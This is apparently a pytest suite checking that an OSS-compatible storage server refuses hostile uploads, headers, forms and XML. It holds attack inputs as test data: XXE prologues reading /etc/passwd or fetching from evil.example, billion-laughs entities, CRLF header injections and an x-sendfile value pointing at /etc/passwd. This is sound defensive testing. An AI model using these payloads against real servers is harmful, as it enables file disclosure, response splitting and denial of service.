"""Whatever arrives is read or refused in words: it ends no worker, reads no file and writes no header."""

from __future__ import annotations

from typing import Any

import pytest

from ..oss.house import GivenBody
from ..oss.test_post_object import BOUNDARY, a_form, post, signed
from ..test_asgi import DISCONNECT, Served, a_scope, ask, code_of, piece
from .crafting import a_house, v4_link

DOCUMENTS = {
    "delete": ("POST", "/photos/?delete", "<Delete>{}<Object><Key>a</Key></Object></Delete>"),
    "tags": ("PUT", "/photos/secret.txt?tagging", "<Tagging>{}<TagSet></TagSet></Tagging>"),
    "bucket": ("PUT", "/new-bucket/", "<CreateBucketConfiguration>{}</CreateBucketConfiguration>"),
    "cors": (
        "PUT",
        "/photos/?cors",
        "<CORSConfiguration>{}<CORSRule><AllowedOrigin>*</AllowedOrigin><AllowedMethod>GET</AllowedMethod></CORSRule>"
        "</CORSConfiguration>",
    ),
    "versioning": (
        "PUT",
        "/photos/?versioning",
        "<VersioningConfiguration>{}<Status>Enabled</Status></VersioningConfiguration>",
    ),
    "website": (
        "PUT",
        "/photos/?website",
        "<WebsiteConfiguration>{}<IndexDocument><Suffix>i</Suffix></IndexDocument></WebsiteConfiguration>",
    ),
    "lifecycle": (
        "PUT",
        "/photos/?lifecycle",
        "<LifecycleConfiguration>{}<Rule><Prefix>x</Prefix><Status>Enabled</Status><Expiration><Days>1</Days></Expiration></Rule>"
        "</LifecycleConfiguration>",
    ),
}
PROLOGUES = [
    '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE d [<!ENTITY x "text">]>',
    '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY x "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    '<!DOCTYPE d SYSTEM "http://evil.example/d.dtd">',
    '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>',
]


@pytest.mark.parametrize("prologue", PROLOGUES, ids=["file", "text", "laughs", "dtd", "parameter"])
@pytest.mark.parametrize("kind", DOCUMENTS)
async def test_no_document_has_entities(kind: str, prologue: str) -> None:
    """XML with a DTD is refused whole: it names no file and no address, and grows to nothing."""
    house = await a_house()
    method, address, document = DOCUMENTS[kind]
    used = "&x;" if "<!ENTITY x" in prologue else ""
    answer = await house.ask(method, address, (prologue + document.format(used)).encode())
    assert answer.refusal == (400, "MalformedXML")
    assert b"root:" not in answer.body
    assert (await house.ask(method, address, document.format("").encode())).status in (200, 204)


@pytest.mark.parametrize("kind", DOCUMENTS)
async def test_no_document_is_nested_without_end(kind: str) -> None:
    """A document deeper than any of OSS's is refused while it is read."""
    house = await a_house()
    method, address, document = DOCUMENTS[kind]
    nested = document.format("<a>" * 10_000 + "</a>" * 10_000)
    assert (await house.ask(method, address, nested.encode())).refusal == (400, "MalformedXML")


@pytest.mark.parametrize(
    "document",
    [
        b"", b"<Tagging", b"<Tagging/>", b"<Other/>", b"<Tagging><TagSet><Tag></Tag></TagSet></Tagging>",
        b"<Tagging><TagSet><Tag><Value>v</Value></Tag></TagSet></Tagging>", b"<Tagging><TagSet/><TagSet/></Tagging>",
        b"<Tagging><TagSet><Tag><Key/></Tag></TagSet></Tagging>", b"\xff\xfe<\x00", b"\x00" * 100,
        b'<?xml version="1.0" encoding="utf-7"?><Tagging/>', b'<?xml version="1.0" encoding="nowhere"?><Tagging/>',
    ],
)  # fmt: skip
async def test_a_document_of_tags_that_is_none_is_refused_in_words(document: bytes) -> None:
    """A broken Tagging document is the client's fault, whatever is missing in it."""
    house = await a_house()
    answer = await house.ask("PUT", "/photos/secret.txt?tagging", document)
    assert answer.status == 400
    assert (await house.ask("GET", "/photos/secret.txt?tagging")).texts("TagSet/Tag") == []


@pytest.mark.parametrize(
    "body",
    [
        b"", b"--", b"hello", f"--{BOUNDARY}--\r\n".encode(), f"--{BOUNDARY}\r\n".encode(),
        f"--{BOUNDARY}\r\n\r\n\r\n--{BOUNDARY}--".encode(),
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"\r\n\r\nhalf'.encode(),
        f"--{BOUNDARY}\r\nContent-Disposition: form-data\r\n\r\nx\r\n--{BOUNDARY}--\r\n".encode(),
        f"--{BOUNDARY}\r\nno header line\r\n\r\nx\r\n--{BOUNDARY}--\r\n".encode(),
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="key"\r\n\r\nk\r\n'.encode() * 2 + b"--a-boundary--",
    ],
)  # fmt: skip
async def test_a_form_that_is_none_is_refused_in_words(body: bytes) -> None:
    """A broken form ends in a refusal, and leaves nothing behind."""
    house = await a_house(acl="public-read-write")
    before = house.contents()
    answer = await post(house, body)
    assert answer.status == 400
    assert house.contents() == before
    whole = a_form(signed("a.txt"))
    for end in (1, len(whole) // 2, len(whole) - 6):
        assert (await post(house, whole[:end])).status == 400
    assert house.contents() == before


@pytest.mark.parametrize(
    "headers",
    [
        {"content-length": "x"}, {"content-length": "-1"}, {"content-length": "1e3"}, {"content-length": "٣"},
        {"content-length": "9" * 400}, {"content-length": "1,1"}, {"content-md5": "%%%"}, {"content-md5": "AAAA"},
        {"x-oss-hash-crc64ecma": "x"}, {"x-oss-tagging": "%ff"}, {"x-oss-tagging": "a=b&a=b"},
        {"x-oss-callback": "%%%"}, {"x-oss-callback": "bm8="}, {"x-oss-traffic-limit": "NaN"},
        {"x-oss-forbid-overwrite": "maybe"}, {"x-oss-persistent-headers": ":"}, {"transfer-encoding": "gzip, chunked"},
    ],
    ids=str,
)  # fmt: skip
async def test_a_malformed_header_is_refused_in_words(headers: dict[str, str]) -> None:
    """No header of an upload, however broken, ends in a failure of the server's or in an object."""
    house = await a_house()
    before = house.contents()
    chunked = "transfer-encoding" in headers
    answer = await house.ask("PUT", "/photos/a", GivenBody([b"x"]), headers, chunked=chunked)
    assert answer.status == 400
    assert house.contents() == before


@pytest.mark.parametrize(
    "headers",
    [
        {"range": "bytes=" + "9" * 5000 + "-"}, {"range": "bytes=--1"}, {"range": "bytes=٣-"}, {"range": "\udcff"},
        {"if-modified-since": "yesterday"}, {"if-modified-since": "Thu, 99 Mar 99999 07:08:09 GMT"}, {"if-match": '"'},
        {"origin": "\udcff\r"}, {"referer": "\udcff" * 9000}, {"user-agent": "\udcff"}, {"accept": "text/" * 1000},
        {"accept-encoding": ";q=" * 1000}, {"cookie": "a=" * 5000}, {"expect": "the spanish inquisition"},
    ],
    ids=lambda headers: f"{headers}"[:40],
)  # fmt: skip
async def test_a_malformed_header_of_a_download_is_passed_over(headers: dict[str, str]) -> None:
    """A reader's broken header gives the object or a refusal; it is never a failure of the server's."""
    house = await a_house(acl="public-read")
    cors = DOCUMENTS["cors"]
    assert (await house.ask(cors[0], cors[1], cors[2].format("").encode())).status == 200
    answer = await house.ask("GET", "/photos/secret.txt", headers=headers, by=None)
    assert answer.status in (200, 206, 304, 400, 412)
    assert not any("\r" in value or "\n" in value for value in answer.headers.values())


async def test_bytes_that_are_no_text_in_a_header_are_stored_as_they_came() -> None:
    """A header of any bytes is one value, given back as it was sent, and signed as it was sent."""
    house = await a_house(acl="public-read-write")
    raw = [
        (b"host", b"127.0.0.1"),
        (b"content-length", b"1"),
        (b"x-oss-meta-a", b"\xff\xfe\xc3"),
        (b"\xe9\xff", b"\x80"),
    ]
    client = await ask(a_scope("PUT", b"/photos/a", headers=raw), piece(b"x", more=False), answer=Served(house))
    assert client.status == 200
    reply = await house.ask("GET", "/photos/a")
    assert reply.headers["x-oss-meta-a"].encode("utf-8", "surrogateescape") == b"\xff\xfe\xc3"


@pytest.mark.parametrize("said", [(DISCONNECT,), (piece(b"hal"), DISCONNECT), (piece(b"hal"), piece(b"f", more=False))])
async def test_a_body_that_is_cut_off_ends_and_stores_nothing(said: tuple[Any, ...]) -> None:
    """An upload that stops in the middle is a refusal at once: nothing waits for the rest, nothing is kept."""
    house = await a_house()
    path, _, query = v4_link("/photos/a", "PUT").partition("?")
    length = (b"content-length", b"10") if DISCONNECT not in said else (b"transfer-encoding", b"chunked")
    scope = a_scope("PUT", path.encode(), query.encode(), [(b"host", b"127.0.0.1"), length])
    client = await ask(scope, *said, answer=Served(house))
    assert (client.status, code_of(client)) == (400, "IncompleteBody")
    assert (await house.ask("GET", "/photos/a")).status == 404


@pytest.mark.parametrize("value", ["a\r\nSet-Cookie: b=c", "a\nb", "a\rb", "a\0b", "a\x7fb"], ids=repr)
async def test_a_link_writes_no_line_into_the_reply(value: str) -> None:
    """response-* parameters are headers of one line, though a signer wrote two."""
    house = await a_house()
    for name in (
        "content-type",
        "content-disposition",
        "cache-control",
        "expires",
        "content-language",
        "content-encoding",
    ):
        link = house.link("GET", "secret.txt", query={f"response-{name}": value})
        assert (await house.follow(link)).refusal == (400, "InvalidArgument")


@pytest.mark.parametrize("sign", ["\n", "\r", "\r\n", "\x0b", "\u2028"], ids=repr)
@pytest.mark.parametrize("element", ["ExposeHeader", "AllowedHeader", "AllowedOrigin", "AllowedMethod"])
async def test_a_cors_rule_writes_no_line_into_the_reply(element: str, sign: str) -> None:
    """No element of a CORS rule holds a line break, in whatever form it was written."""
    house = await a_house()
    values = {"AllowedOrigin": "*", "AllowedMethod": "GET", "ExposeHeader": "x-a", "AllowedHeader": "x-a"}
    written = "".join(f"&#{ord(character)};" for character in sign)
    values[element] = f"x-a{written}Set-Cookie"
    rule = "".join(f"<{name}>{value}</{name}>" for name, value in values.items())
    document = f"<CORSConfiguration><CORSRule>{rule}</CORSRule></CORSConfiguration>"
    answer = await house.ask("PUT", "/photos/?cors", document.encode())
    assert answer.status == 400
    assert (await house.ask("GET", "/photos/?cors")).status == 404


async def test_a_page_of_another_origin_gets_no_credentials() -> None:
    """A rule for everybody says so by a star, never by the origin that asked, and never with credentials."""
    house = await a_house(acl="public-read")
    origin = {"origin": "https://evil.example"}
    without = await house.ask("GET", "/photos/secret.txt", headers=origin, by=None)
    assert not [name for name in without.headers if name.startswith("access-control-")]
    method, address, document = DOCUMENTS["cors"]
    assert (await house.ask(method, address, document.format("").encode())).status == 200
    for asked in ("GET", "OPTIONS"):
        headers = origin | ({"access-control-request-method": "GET"} if asked == "OPTIONS" else {})
        answer = await house.ask(asked, "/photos/secret.txt", headers=headers, by=None)
        assert answer.headers["access-control-allow-origin"] == "*"
        assert "access-control-allow-credentials" not in answer.headers


async def test_what_was_uploaded_is_not_guessed_to_be_a_page() -> None:
    """Objects go out with nosniff, and as downloads where the server's owner said so."""
    house = await a_house(options={"force_download": True})
    await house.put("/photos/a.html", b"<script>", {"content-type": "text/html", "content-disposition": "inline"})
    for method in ("GET", "HEAD"):
        got = await house.ask(method, "/photos/a.html")
        assert got.headers["x-content-type-options"] == "nosniff"
        assert got.headers["content-disposition"].startswith("attachment")
    link = house.link("GET", "a.html", response_content_disposition="inline")
    assert (await house.follow(link)).headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize(
    "name",
    [
        "x-accel-redirect",
        "x-sendfile",
        "x-reproxy-url",
        "x-lighttpd-send-file",
        "www-authenticate",
        "clear-site-data",
        "alt-svc",
        "refresh",
    ],
)
async def test_an_uploader_sets_no_header_that_proxies_or_browsers_obey(name: str) -> None:
    """What is stored with an object makes no proxy send its own files, and no browser forget or ask."""
    house = await a_house()
    answer = await house.ask("PUT", "/photos/a", b"x", {"x-oss-persistent-headers": f"{name}:L2V0Yy9wYXNzd2Q="})
    assert answer.status == 400
    assert name not in (await house.ask("GET", "/photos/a")).headers
